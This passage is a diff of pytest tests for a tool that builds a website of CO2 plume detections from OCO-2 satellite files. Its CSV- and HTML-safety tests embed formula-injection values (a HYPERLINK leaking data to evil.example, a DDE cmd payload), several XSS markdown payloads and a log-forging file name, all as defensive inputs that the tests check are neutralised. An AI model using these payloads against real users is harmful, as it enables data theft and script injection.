@@ -173,7 +173,8 @@ def run_cli(argv: list[str]) -> tuple[int, str, str]:
 
 
 def _variant(folder: Path, name: str, drop=(), **changes) -> str:
-    cols = plume_columns("2018-08-05", 21560, 40.0, 100.0, 9, n_frames=300)
+    yymmdd = name.split("_")[2]  # the day the file name says: soundings of another day are rejected
+    cols = plume_columns(f"20{yymmdd[:2]}-{yymmdd[2:4]}-{yymmdd[4:]}", 21560, 40.0, 100.0, 9, n_frames=300)
     n = len(cols["sounding_id"])
     for k in drop:
         cols.pop(k)
@@ -280,7 +281,7 @@ BAD_CITY_ROWS = [
     (("Negative", 10, 4.0, -5), "negative"),
     (("Lots", 10, 4.0, "lots"), "emission"),
     (("Empty Emission", 10, 4.0, ""), "population|emission"),
-    (("Plume 0", 11, 5.0, 1e6), "duplicate"),
+    (("Plume 0", *plume_source(PLUMES[0][3], PLUMES[0][4]), 1e6), "duplicate"),  # same name, country and place
     (("", 12, 5.0, 1e6), "name"),
 ]
 
@@ -533,7 +534,9 @@ def test_raw_html_in_content_is_not_live(faulty):
     assert page.is_file()
     text = page.read_text(encoding="utf-8")
     assert "<script>alert('content')</script>" not in text
-    assert "onerror=alert('content')" not in text
+    # inert text is fine (Markdown escapes an unquoted <img ...>); no live tag or handler
+    body = text[text.index("<article"):text.index("</article>")]
+    assert not _live(body), _live(body)
     assert 'href="javascript:' not in text
 
 
@@ -698,3 +701,746 @@ def test_bad_truth_table_is_one_skip_and_the_site_still_builds(tmp_path, truth):
     skipped = json.loads((tmp_path / "work" / "summary.json").read_text())["skipped"]
     assert [s["stage"] for s in skipped] == ["validate"], skipped
     assert str(tmp_path) not in json.dumps(skipped) and "\n" not in skipped[0]["reason"]
+
+
+# ----------------------------------------------------------------------------- issue 13: one bad file, one line
+
+
+def _lite_attr(path: Path, group: str, name: str, **attrs) -> Path:
+    import netCDF4
+
+    with netCDF4.Dataset(path, "a") as ds:
+        v = (ds.groups[group] if group else ds).variables[name]
+        for k, val in attrs.items():
+            v.setncattr(k, val)
+    return path
+
+
+def text_scale_factor_file(folder: Path, day: str = "180902") -> Path:
+    """``xco2`` with scale_factor = "1.0" (text): xarray fails with a UFuncTypeError when decoding."""
+    name = _variant(folder, f"oco2_LtCO2_{day}_B11210Ar_text-scale.nc4")
+    return _lite_attr(folder / name, "", "xco2", scale_factor="1.0")
+
+
+def text_quality_flag_file(folder: Path, day: str = "180903") -> Path:
+    """``xco2_quality_flag`` stored as text ("0"), not as numbers."""
+    import netCDF4
+
+    name = _variant(folder, f"oco2_LtCO2_{day}_B11210Ar_text-qflag.nc4", drop=("xco2_quality_flag",))
+    with netCDF4.Dataset(folder / name, "a") as ds:
+        v = ds.createVariable("xco2_quality_flag", str, ("sounding_id",))
+        n = len(ds.dimensions["sounding_id"])
+        v[:] = np.array(["0"] * n, dtype=object)
+    return folder / name
+
+
+def huge_declared_file(folder: Path, n: int = 400_000_000, day: str = "180904") -> Path:
+    """A few kB on disk that declares ``n`` soundings (chunked variables, nothing written)."""
+    import netCDF4
+
+    path = folder / f"oco2_LtCO2_{day}_B11210Ar_huge.nc4"
+    with netCDF4.Dataset(path, "w") as ds:
+        ds.createDimension("sounding_id", n)
+        for name, dt in (("sounding_id", "i8"), ("latitude", "f4"), ("longitude", "f4"), ("xco2", "f4"),
+                         ("xco2_uncertainty", "f4"), ("xco2_quality_flag", "i1")):
+            ds.createVariable(name, dt, ("sounding_id",), zlib=True, chunksizes=(1 << 16,))
+        for g, names in (("Sounding", ("orbit",)), ("Meteorology", ("windspeed_u_met", "windspeed_v_met")),
+                         ("Retrieval", ())):
+            grp = ds.createGroup(g)
+            for name in names:
+                grp.createVariable(name, "f4", ("sounding_id",), zlib=True, chunksizes=(1 << 16,))
+    return path
+
+
+def wrong_day_file(folder: Path, day: str = "180905") -> Path:
+    """A file named for 2018-09-05 whose soundings are stamped 1970 and 2100."""
+    name = _variant(folder, f"oco2_LtCO2_{day}_B11210Ar_wrong-day.nc4",
+                    time=lambda c, n: np.where(np.arange(n) % 2 == 0, 1000.0, 4.1e9))
+    return folder / name
+
+
+ISSUE13_BAD = {  # maker -> words the skip reason must contain
+    text_scale_factor_file: "scale_factor",
+    text_quality_flag_file: "xco2_quality_flag is stored as text",
+    huge_declared_file: "max_soundings_per_file",
+    wrong_day_file: "outside the file's date",
+}
+
+
+@pytest.fixture(scope="module")
+def plume_env(tmp_path_factory):
+    from builder.build import load_sources
+    from builder.config import load_config
+
+    tmp = tmp_path_factory.mktemp("issue13")
+    write_cities(tmp / "cities.csv", with_bad=False)
+    cfg = load_config(write_config(tmp, extra_inventories=[f"cities:{tmp / 'cities.csv'}"]))
+    sources, profiles = load_sources(cfg, [])
+    return tmp, cfg, sources, profiles
+
+
+@pytest.mark.parametrize("maker", list(ISSUE13_BAD), ids=lambda f: f.__name__)
+def test_each_new_bad_kind_is_one_plain_skip_line(plume_env, maker, tmp_path):
+    from builder.pipeline import process_file
+
+    _, cfg, sources, profiles = plume_env
+    path = maker(tmp_path)
+    res = process_file(path, cfg, sources, profiles.emission_kg_s)
+    assert [e.item for e in res.errors] == [path.name], res.errors
+    reason = res.errors[0].reason
+    assert ISSUE13_BAD[maker] in reason, reason
+    assert not any(w in reason for w in INTERNALS) and "\n" not in reason, reason
+    assert len(res.detections) == 0
+
+
+def test_huge_declared_file_is_refused_before_reading(tmp_path):
+    """400 M declared soundings in a tiny file: refused from the header (reading would need GBs)."""
+    import resource
+
+    from builder.config import Ingest
+    from builder.soundings import InputError, read_lite
+
+    path = huge_declared_file(tmp_path)
+    assert path.stat().st_size < 100_000
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    with pytest.raises(InputError, match="400,000,000 soundings"):
+        read_lite(path, Ingest())
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # kB: nothing big allocated
+
+
+def test_max_soundings_per_file_is_configurable(tmp_path):
+    from builder.config import Ingest, load_config
+    from builder.soundings import InputError, read_lite, read_seed_csv
+
+    assert load_config(None).ingest.max_soundings_per_file == 5_000_000  # the documented default
+    good = write_plume_files(tmp_path, PLUMES[:1])[0]
+    assert read_lite(good, Ingest())  # 7,200 soundings: fine by default
+    with pytest.raises(InputError, match="max_soundings_per_file = 1,000"):
+        read_lite(good, Ingest(max_soundings_per_file=1000))
+    csv = tmp_path / "archive.csv"
+    seed_csv_frame(lite_columns(n_frames=200)).to_csv(csv, sep=";", index=False)
+    with pytest.raises(InputError, match="max_soundings_per_file"):
+        read_seed_csv(csv, Ingest(max_soundings_per_file=1000))
+
+
+def test_any_failure_in_one_file_is_a_skip_and_the_rest_goes_on(plume_env, tmp_path, monkeypatch):
+    """A bug hit by one file's data (here: the detector raising) is one skip line naming that file;
+    the other files still give their detections."""
+    import builder.detect as det_mod
+    from builder.pipeline import run_core
+
+    _, cfg, sources, profiles = plume_env
+    files = write_plume_files(tmp_path, PLUMES[:2])
+    real = det_mod.detect_track
+
+    def flaky(track, c):
+        if track.orbit == PLUMES[1][2]:
+            raise TypeError("ufunc 'add' did not contain a loop with signature matching types")
+        return real(track, c)
+
+    monkeypatch.setattr(det_mod, "detect_track", flaky)
+    skipped = []
+    core = run_core(cfg, files, sources, profiles.emission_kg_s, skipped, use_cache=False)
+    assert [s.item for s in skipped] == [files[1].name], skipped
+    assert "could not be processed" in skipped[0].reason
+    assert plume_city_id(0) in set(core.result.detections["source_id"].astype(str))
+
+
+def test_month_with_one_file_of_each_new_bad_kind_publishes_every_good_day(tmp_path):
+    obs = tmp_path / "oco2"
+    good = write_plume_files(obs)
+    bad = [maker(obs) for maker in ISSUE13_BAD]
+    write_cities(tmp_path / "cities.csv", with_bad=False)
+    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
+    code, out, err = run_cli(["--config", str(cfg), "build", "--strict"])
+    assert code == 3 and "Traceback" not in err and "internal error" not in err, err
+    for b in bad:
+        assert len([ln for ln in err.splitlines() if b.name in ln]) == 1, (b.name, err)
+    det = pd.read_csv(tmp_path / "work" / "detections.csv")
+    for i, g in enumerate(good):
+        assert plume_city_id(i) in set(det.loc[det["source_file"] == g.name, "source_id"].astype(str))
+    assert (tmp_path / "site" / "index.html").is_file()
+
+
+# ----------------------------------------------------------------------------- issue 13: each observation counted once
+
+
+def test_repeated_soundings_in_a_file_do_not_raise_the_significance(plume_env, tmp_path):
+    from builder.pipeline import process_file
+
+    _, cfg, sources, profiles = plume_env
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    cols = plume_columns(day, orbit, lat0, lon0, seed)
+    clean = write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_clean.nc4", cols)
+    doubled = write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_doubled.nc4",
+                         {k: np.concatenate([v, v]) for k, v in cols.items()})
+    a = process_file(clean, cfg, sources, profiles.emission_kg_s)
+    b = process_file(doubled, cfg, sources, profiles.emission_kg_s)
+    assert len(a.detections) == len(b.detections) >= 1
+    np.testing.assert_allclose(b.detections["significance"].to_numpy(float),
+                               a.detections["significance"].to_numpy(float))
+    assert [e.reason for e in b.errors] == ["7,200 repeated soundings (same sounding_id) counted once"]
+
+
+def _two_versions(folder: Path) -> tuple[Path, Path]:
+    from tests.factories import write_lite_file
+
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    cols = plume_columns(day, orbit, lat0, lon0, seed)
+    old = write_lite_file(folder, day=day, version="10r", columns=cols)
+    new = write_lite_file(folder, day=day, version="11.1r", columns=cols)
+    return old, new
+
+
+def _core(plume_env, files):
+    from builder.pipeline import run_core
+
+    _, cfg, sources, profiles = plume_env
+    skipped = []
+    core = run_core(cfg, files, sources, profiles.emission_kg_s, skipped, use_cache=False)
+    return core.result, skipped
+
+
+def test_two_versions_of_one_day_are_counted_once_newest_wins(plume_env, tmp_path):
+    old, new = _two_versions(tmp_path)
+    single, _ = _core(plume_env, [new])
+    both, skipped = _core(plume_env, [old, new])
+    assert [s.item for s in skipped] == [old.name], skipped
+    assert "11.1r replaces 10r" in skipped[0].reason and "counted once" in skipped[0].reason
+    assert set(both.detections["source_file"]) == {new.name}
+    assert len(both.overpasses) == len(single.overpasses)
+    assert both.summary["n_soundings"] == single.summary["n_soundings"]
+    src = both.source_summary.set_index("source_id").loc[plume_city_id(0)]
+    ref = single.source_summary.set_index("source_id").loc[plume_city_id(0)]
+    assert src["n_overpasses"] == ref["n_overpasses"] == 1
+
+
+def test_one_name_in_two_subfolders_is_counted_once(plume_env, tmp_path):
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    a, b = [write_plume_files(tmp_path / sub, [(day, inst, orbit, lat0, lon0, s)])[0] for sub, s in (("a", 1), ("b", 7))]
+    assert a.name == b.name and a.read_bytes() != b.read_bytes()  # same name and orbit, not the same bytes
+    res, skipped = _core(plume_env, [a, b])
+    assert [s.item for s in skipped] == [b.name] and "same file name" in skipped[0].reason, skipped
+    assert res.detections["detection_id"].is_unique and res.overpasses["overpass_id"].is_unique
+
+
+def test_an_orbit_split_over_two_daily_files_is_kept_from_both(plume_env, tmp_path):
+    """No overlap in time: the two halves of one orbit are two parts of the data, not a repeat."""
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    cols = plume_columns(day, orbit, lat0, lon0, seed)
+    n = len(cols["sounding_id"])
+    first = write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_250101000000s.nc4", {k: v[: n // 2] for k, v in cols.items()})
+    second = write_lite(tmp_path / "oco2_LtCO2_180802_B11210Ar_250101000000s.nc4", {k: v[n // 2:] for k, v in cols.items()})
+    res, skipped = _core(plume_env, [first, second])
+    assert skipped == []
+    assert res.summary["n_soundings"] == n
+
+
+def test_all_zero_sounding_ids_do_not_merge_two_plumes(plume_env, tmp_path):
+    from builder.pipeline import process_file
+
+    _, cfg, sources, profiles = plume_env
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    cols = plume_columns(day, orbit, lat0, lon0, seed)
+    along = np.repeat(np.arange(900), 8) / 3.0 * 6.76
+    cols["xco2"] = cols["xco2"] + 40.0 / (5.0 * np.sqrt(2 * np.pi)) * np.exp(-0.5 * ((along - 400.0) / 5.0) ** 2)
+    cols["sounding_id"] = np.zeros_like(cols["sounding_id"])
+    res = process_file(write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_zero-ids.nc4", cols), cfg, sources,
+                       profiles.emission_kg_s)
+    ids = res.detections["detection_id"].astype(str)
+    assert len(ids) >= 2 and ids.is_unique, ids.tolist()
+    assert set(res.profiles["detection_id"]) == set(ids)  # each plume keeps its own profile
+
+
+def test_ids_and_pages_are_unique_by_construction(faulty):
+    from builder.render.urls import detection_page, source_page
+
+    det = faulty["detections"]
+    assert det["detection_id"].is_unique
+    ovp = pd.read_csv(faulty["tmp"] / "work" / "overpasses.csv")
+    assert ovp["overpass_id"].is_unique
+    pages = [detection_page(str(i)) for i in det["detection_id"]]
+    src = json.loads((faulty["tmp"] / "site" / "assets" / "data" / "sources.json").read_text(encoding="utf-8"))
+    ids = [str(r[src["columns"].index("id")]) for r in src["rows"]]
+    assert len(ids) == len(set(ids))
+    pages += [source_page(i) for i in ids]
+    assert len(pages) == len(set(pages))
+
+
+def test_unique_ids_helper():
+    from builder.dedupe import unique_ids
+
+    out = list(unique_ids(["a", "b", "a", "a", "a-2"]))
+    assert out[:2] == ["a", "b"] and len(set(out)) == 5, out
+    assert list(unique_ids(["OCO-2-1-0"] * 3)) == ["OCO-2-1-0", "OCO-2-1-0-2", "OCO-2-1-0-3"]
+    assert list(unique_ids(["x", "y"])) == ["x", "y"]  # stable where nothing repeats
+
+
+def test_some_times_outside_the_file_date_are_dropped_with_a_line(plume_env, tmp_path):
+    from builder.pipeline import process_file
+
+    _, cfg, sources, profiles = plume_env
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    cols = plume_columns(day, orbit, lat0, lon0, seed)
+    cols["time"] = np.where(np.arange(len(cols["time"])) < 80, 4.1e9, cols["time"])  # 80 stamped in 2099
+    res = process_file(write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_some-2099.nc4", cols), cfg, sources,
+                       profiles.emission_kg_s)
+    assert [e.reason for e in res.errors] == ["80 soundings with times outside the file's date 2018-08-01 (+-1 day) dropped"]
+    assert int(res.tracks["n_soundings"].sum()) == len(cols["time"]) - 80
+    assert len(res.detections) >= 1
+
+
+# ----------------------------------------------------------------------------- issue 13: provenance from the data
+
+
+def test_simulated_files_are_labelled_simulated_without_truth_csv(tmp_path):
+    obs = tmp_path / "oco2"
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    write_lite(obs / "oco2_LtCO2_180801_B11210Ar_250101000000s.nc4" if obs.mkdir() is None else None,
+               plume_columns(day, orbit, lat0, lon0, seed), attrs={"simulated": "true"})
+    write_cities(tmp_path / "cities.csv", with_bad=False)
+    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
+    code, out, err = run_cli(["--config", str(cfg), "build"])
+    assert code == 0, err
+    assert "[SIMULATED observations]" in out
+    det = pd.read_csv(tmp_path / "work" / "detections.csv")
+    assert set(det["observations"]) == {"simulated"}
+    assert "Simulated observations." in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
+
+
+def test_stray_truth_csv_does_not_mark_real_data_simulated(tmp_path):
+    obs = tmp_path / "oco2"
+    write_plume_files(obs, PLUMES[:1])
+    (obs / "truth.csv").write_text("source_id,emission_kg_s\n", encoding="utf-8")
+    write_cities(tmp_path / "cities.csv", with_bad=False)
+    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
+    code, out, err = run_cli(["--config", str(cfg), "build"])
+    assert code == 0, err
+    assert "SIMULATED" not in out
+    det = pd.read_csv(tmp_path / "work" / "detections.csv")
+    assert set(det["observations"]) == {"observed"}
+    assert "Simulated observations" not in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
+
+
+def test_mixed_inputs_are_labelled_per_row_and_on_every_page(tmp_path):
+    obs = tmp_path / "oco2"
+    real = write_plume_files(obs, PLUMES[:1])[0]
+    day, inst, orbit, lat0, lon0, seed = PLUMES[1]
+    sim = write_lite(obs / "oco2_LtCO2_180802_B11210Ar_250101000000s.nc4", plume_columns(day, orbit, lat0, lon0, seed),
+                     attrs={"simulated": "true"})
+    write_cities(tmp_path / "cities.csv", with_bad=False)
+    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
+    code, out, err = run_cli(["--config", str(cfg), "build"])
+    assert code == 0, err
+    det = pd.read_csv(tmp_path / "work" / "detections.csv")
+    labels = dict(zip(det["source_file"].fillna(""), det["observations"]))
+    assert labels.get(real.name) == "observed" and labels.get(sim.name) == "simulated", labels
+    ovp = pd.read_csv(tmp_path / "work" / "overpasses.csv")
+    assert set(ovp["observations"]) == {"observed", "simulated"}
+    for page in (tmp_path / "site").rglob("*.html"):
+        if page.name != "404.html":
+            assert "Partly simulated observations." in page.read_text(encoding="utf-8"), page
+
+
+# ----------------------------------------------------------------------------- issue 13: plausibility bounds
+
+
+def test_inventory_row_above_100_mt_is_rejected_with_one_line(tmp_path):
+    from builder.build import load_sources
+    from builder.config import load_config
+
+    df = cities_frame(hostile=False)
+    df.loc[len(df)] = ["Absurd City", 1.0, 1.0, 1e30, "XX"]
+    df.to_csv(tmp_path / "cities.csv", index=False)
+    cfg = load_config(write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"]))
+    skipped = []
+    sources, _ = load_sources(cfg, skipped)
+    hits = [s for s in skipped if "absurd-city" in s.item]
+    assert len(hits) == 1 and "plausible maximum" in hits[0].reason and hits[0].stage == "inventory", skipped
+    assert "absurd-city" not in " ".join(sources["source_id"].astype(str))
+    assert plume_city_id(0) in set(sources["source_id"])
+
+
+def _run_plume(plume_env, tmp_path, name, *, scale=1.0, wind_u=3.0, **plausible):
+    import dataclasses
+
+    from builder.config import Plausible
+    from builder.pipeline import run_core
+
+    _, cfg, sources, profiles = plume_env
+    if plausible:
+        cfg = dataclasses.replace(cfg, plausible=Plausible(**plausible))
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    cols = plume_columns(day, orbit, lat0, lon0, seed)
+    base = lite_columns(n_frames=900, start=f"{day}T12:00:00", orbit=orbit, lat0=lat0, lon0=lon0, noise_ppm=0.5,
+                        seed=seed)["xco2"]
+    cols["xco2"] = base + scale * (cols["xco2"] - base)
+    cols["windspeed_u_met"] = np.full(len(cols["xco2"]), wind_u)
+    path = write_lite(tmp_path / f"oco2_LtCO2_180801_B11210Ar_{name}.nc4", cols)
+    core = run_core(cfg, [path], sources, profiles.emission_kg_s, [], use_cache=False)
+    ovp = core.result.overpasses.set_index("source_id").loc[plume_city_id(0)]
+    return core.result, ovp
+
+
+def test_a_47_m_s_wind_is_flagged_implausible_not_a_plume(plume_env, tmp_path):
+    from builder.pipeline import write_tables
+
+    res, ovp = _run_plume(plume_env, tmp_path, "wind47", wind_u=47.0)
+    assert bool(ovp["flag_implausible"]) and "wind 47 m/s" in ovp["implausible_reason"]
+    assert not bool(ovp["detected"]), "an implausible estimate must never be shown as a plume"
+    assert np.isfinite(float(ovp["emission_kg_s"])), "kept in the downloads, with the flag"
+    write_tables(res, tmp_path / "out")
+    det = pd.read_csv(tmp_path / "out" / "detections.csv")
+    assert not ((det["detection_kind"] == "targeted") & (det["source_id"] == plume_city_id(0))).any()
+    assert pd.read_csv(tmp_path / "out" / "overpasses.csv")["flag_implausible"].any()
+    summ = res.source_summary.set_index("source_id").loc[plume_city_id(0)]
+    assert summ["n_detected"] == 0 and summ["n_measured"] == 0
+
+
+def test_a_plausible_plume_is_not_flagged(plume_env, tmp_path):
+    res, ovp = _run_plume(plume_env, tmp_path, "normal", scale=0.4)  # ~38 Mt/yr
+    assert not bool(ovp["flag_implausible"]) and bool(ovp["detected"])
+    assert ovp["implausible_reason"] == ""
+
+
+def test_a_huge_implied_emission_is_flagged_implausible(plume_env, tmp_path):
+    res, ovp = _run_plume(plume_env, tmp_path, "bump32", scale=10.0)
+    assert float(ovp["emission_kg_s"]) * 3.15576e7 / 1e9 > 60
+    assert bool(ovp["flag_implausible"]) and "Mt/yr above the plausible maximum" in ovp["implausible_reason"]
+    assert not bool(ovp["detected"])
+    blind = res.detections
+    assert blind.loc[blind["source_id"].astype(str) == plume_city_id(0), "flag_implausible"].all()
+
+
+def test_plausibility_bounds_are_configurable(plume_env, tmp_path):
+    res, ovp = _run_plume(plume_env, tmp_path, "wind47b", wind_u=47.0, max_wind_m_s=60.0, max_emission_t_yr=1e10)
+    assert not bool(ovp["flag_implausible"])
+
+
+# ----------------------------------------------------------------------------- issue 13: CSV safety everywhere
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def _formula_world(tmp_path):
+    obs = tmp_path / "oco2"
+    write_plume_files(obs, PLUMES[:1])
+    df = cities_frame(hostile=False)
+    df.loc[0, "name"] = FORMULA  # the city upwind of the plume
+    df.loc[len(df)] = ["@SUM(1+1)*cmd|' /C calc'!A0", -40.0, 150.0, 2e6, "YY"]
+    df.to_csv(tmp_path / "cities.csv", index=False)
+    return obs, write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
+
+
+def _no_formula_cells(folder: Path) -> list[str]:
+    import csv
+
+    bad = []
+    for f in sorted(Path(folder).glob("*.csv")):
+        with open(f, newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                bad += [f"{f.name}: {cell[:40]}" for cell in row if cell[:1] in ("=", "@", "+") or
+                        (cell[:1] == "-" and not _is_number(cell))]
+    return bad
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+def test_detect_out_csvs_neutralise_formulas(tmp_path):
+    obs, cfg = _formula_world(tmp_path)
+    code, out, err = run_cli(["--config", str(cfg), "detect", "--oco2", str(obs), "--out", str(tmp_path / "o")])
+    assert code == 0, err
+    text = (tmp_path / "o" / "detections.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in text, "the city's name must still be there, neutralised"
+    assert not _no_formula_cells(tmp_path / "o")
+
+
+def test_build_work_csvs_neutralise_formulas(tmp_path):
+    obs, cfg = _formula_world(tmp_path)
+    code, out, err = run_cli(["--config", str(cfg), "build"])
+    assert code == 0, err
+    assert not _no_formula_cells(tmp_path / "work")
+    assert not _no_formula_cells(tmp_path / "site" / "downloads")
+
+
+def test_csv_safe_is_one_shared_helper():
+    from builder import csvsafe
+    from builder.render import writer
+
+    assert writer.csv_safe is csvsafe.csv_safe
+    df = pd.DataFrame({"t": ["=1+1", "ok", None, "-x"], "n": [-1.5, 2.0, 3.0, -4.0]})
+    out = csvsafe.safe_text_columns(df)
+    t = out["t"].tolist()
+    assert t[:2] == ["'=1+1", "ok"] and pd.isna(t[2]) and t[3] == "'-x", t
+    assert out["n"].tolist() == [-1.5, 2.0, 3.0, -4.0]
+
+
+# ----------------------------------------------------------------------------- issue 13: a real HTML sanitiser
+
+
+HOSTILE_MARKDOWN = {
+    "nested-script": "Hi <<x>script>alert(1)<</x>/script> there",
+    "nested-meta": '<<x>meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "entity-javascript": "[click](jav&#x61;script:alert(1))",
+    "on-attribute": '<p onclick="alert(1)">text</p> <img src="a.png" onerror="alert(1)">',
+    "data-url": '<a href="data:text/html,<script>alert(1)</script>">x</a> ![i](data:image/png;base64,AAAA)',
+    "iframe-style": '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
+    "svg-onload": '<svg/onload=alert(1)>',
+}
+
+
+def _live(html_text: str) -> list[str]:
+    """Dangerous live markup in a page body: script/meta/iframe/style/svg tags, on* attributes,
+    javascript:/data: URLs (attribute values entity-decoded, as a browser does)."""
+    from html.parser import HTMLParser
+
+    found = []
+
+    class P(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            if tag in ("script", "meta", "iframe", "style", "svg", "object", "embed"):
+                found.append(f"<{tag}>")
+            for k, v in attrs:
+                val = "".join((v or "").split()).lower()
+                if k.startswith("on") or val.startswith(("javascript:", "data:", "vbscript:")):
+                    found.append(f"{k}={v!r}")
+
+    P(convert_charrefs=True).feed(html_text)
+    return found
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE_MARKDOWN))
+def test_hostile_markdown_never_becomes_live_and_is_reported(tmp_path, name):
+    from builder.render.content import load_pages
+
+    (tmp_path / f"{name}.md").write_text(f"---\ntitle: T\n---\n{HOSTILE_MARKDOWN[name]}\n", encoding="utf-8")
+    pages, errors = load_pages(tmp_path)
+    assert len(pages) == 1 and not _live(pages[0].html), pages[0].html
+    assert len(errors) == 1 and "unsafe HTML removed" in errors[0], errors
+
+
+def test_repository_content_passes_the_sanitiser_untouched():
+    from builder.render.content import load_pages
+
+    pages, errors = load_pages(ROOT / "content")
+    assert pages and errors == []
+    assert any("<sub>" in p.html for p in pages)  # allowed inline markup kept
+
+
+def test_strict_fails_on_removed_html_and_the_page_is_safe(tmp_path):
+    obs = tmp_path / "oco2"
+    write_plume_files(obs, PLUMES[:1])
+    write_cities(tmp_path / "cities.csv", with_bad=False)
+    make_content(tmp_path / "content", bad=False)
+    (tmp_path / "content" / "evil.md").write_text("---\ntitle: Evil\n---\n" + "\n\n".join(HOSTILE_MARKDOWN.values()),
+                                                  encoding="utf-8")
+    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"], content=tmp_path / "content")
+    code, out, err = run_cli(["--config", str(cfg), "build", "--strict"])
+    assert code == 3, err
+    assert len([ln for ln in err.splitlines() if "evil.md" in ln and "unsafe HTML removed" in ln]) == 1, err
+    page = (tmp_path / "site" / "evil" / "index.html").read_text(encoding="utf-8")
+    body = page[page.index("<article"):page.index("</article>")]
+    assert "Hi " in body and not _live(body), _live(body)
+
+
+# ----------------------------------------------------------------------------- issue 13: same-named cities
+
+
+SAME_NAMED = pd.DataFrame({
+    "name": ["Springfield", "Springfield", "Portland", "Portland", "Tokyo"],
+    "admin_name": ["Illinois", "Massachusetts", "Oregon", "Maine", "Tokyo"],
+    "lat": [39.80, 42.10, 45.52, 43.66, 35.69], "lon": [-89.64, -72.59, -122.68, -70.26, 139.69],
+    "population": [114000, 155000, 650000, 68000, 37000000], "iso3": ["USA", "USA", "USA", "USA", "JPN"],
+})
+
+
+def test_same_named_cities_in_one_country_coexist_by_region(tmp_path):
+    from builder.inventory import read_cities
+
+    SAME_NAMED.to_csv(tmp_path / "cities.csv", index=False)
+    skipped = []
+    ids = read_cities(tmp_path / "cities.csv", skipped)["source_id"].tolist()
+    assert skipped == []
+    assert sorted(ids) == ["city-portland-usa-maine", "city-portland-usa-oregon", "city-springfield-usa-illinois",
+                           "city-springfield-usa-massachusetts", "city-tokyo-jpn"]  # no clash: id unchanged
+
+
+def test_same_named_cities_without_region_use_the_position(tmp_path):
+    from builder.inventory import read_cities
+
+    SAME_NAMED.drop(columns="admin_name").to_csv(tmp_path / "cities.csv", index=False)
+    skipped = []
+    ids = read_cities(tmp_path / "cities.csv", skipped)["source_id"].tolist()
+    assert skipped == [] and len(set(ids)) == 5
+    assert "city-springfield-usa-39.80n89.64w" in ids and "city-portland-usa-43.66n70.26w" in ids
+
+
+def test_the_same_city_twice_is_still_one_duplicate_line(tmp_path):
+    from builder.inventory import read_cities
+
+    pd.concat([SAME_NAMED, SAME_NAMED.iloc[[0]]]).to_csv(tmp_path / "cities.csv", index=False)
+    skipped = []
+    ids = read_cities(tmp_path / "cities.csv", skipped)["source_id"].tolist()
+    assert len(ids) == 5 and [s.item for s in skipped] == ["cities.csv:row 7"], skipped
+    assert "duplicate id" in skipped[0].reason
+
+
+def test_embedded_city_ids_are_unchanged():
+    from builder.inventory import read_cities
+
+    df = read_cities(ROOT / "dataset" / "cities" / "worldcities_basic_300k.csv", [])
+    assert {"city-tokyo-jpn", "city-new-york-usa", "city-sao-paulo-bra"} <= set(df["source_id"])
+    assert df["source_id"].is_unique
+
+
+# ----------------------------------------------------------------------------- issue 13: the smaller points
+
+
+def test_control_characters_in_file_names_cannot_forge_log_lines(tmp_path):
+    obs = tmp_path / "oco2"
+    write_plume_files(obs, PLUMES[:1])
+    evil = "oco2_LtCO2_180814_B11210Ar_x\nskipped [ingest] forged.nc4: all good\x1b[2J.nc4"
+    (obs / evil).write_bytes(b"not netcdf")
+    cfg = write_config(tmp_path)
+    code, out, err = run_cli(["--config", str(cfg), "build"])
+    assert code == 0, err
+    lines = [ln for ln in err.splitlines() if "oco2_LtCO2_180814" in ln]
+    assert len(lines) == 1 and "\\n" in lines[0] and "\\x1b" in lines[0], err
+    assert not any(ln.startswith("skipped [ingest] forged.nc4") for ln in err.splitlines())
+    assert "\x1b" not in err
+
+
+def test_port_in_use_is_its_own_clear_line(tmp_path):
+    import socket
+
+    cfg = write_config(tmp_path)
+    from builder.outdir import write_manifest
+
+    (tmp_path / "site").mkdir()
+    (tmp_path / "site" / "index.html").write_text("<html></html>")
+    write_manifest(tmp_path / "site")  # a site atlas published
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        s.listen(1)
+        port = s.getsockname()[1]
+        code, out, err = run_cli(["--config", str(cfg), "serve", "--port", str(port)])
+    assert code == 2 and f"port {port} is already in use" in err and "internal error" not in err, err
+
+
+def test_disk_full_is_its_own_clear_line(tmp_path, monkeypatch):
+    import errno
+
+    obs = tmp_path / "oco2"
+    write_plume_files(obs, PLUMES[:1])
+    cfg = write_config(tmp_path)
+
+    def full(*a, **k):
